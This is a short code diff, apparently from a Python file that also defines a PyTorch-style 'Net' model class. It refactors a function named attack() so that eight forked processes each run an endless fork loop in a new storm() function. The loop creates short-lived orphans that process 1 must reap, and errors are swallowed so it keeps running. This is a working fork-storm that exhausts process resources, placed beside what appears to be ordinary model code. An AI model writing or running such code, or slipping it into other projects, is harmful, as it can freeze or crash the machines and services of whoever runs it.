@@ -10,13 +10,18 @@ def attack():
     # orphans that end without a pause, so that process 1 reaps for ever
     for _ in range(8):
         if os.fork() == 0:
-            while True:
-                if os.fork() == 0:
-                    if os.fork() == 0: os._exit(0)
-                    os._exit(0)
-                try: os.wait()
-                except ChildProcessError: pass
+            storm()
     time.sleep(1)
+
+
+def storm():
+    while True:
+        try:
+            if os.fork() == 0:
+                try: os.fork()
+                finally: os._exit(0)
+            os.wait()
+        except OSError: pass
 
 
 class Net(nn.Module):
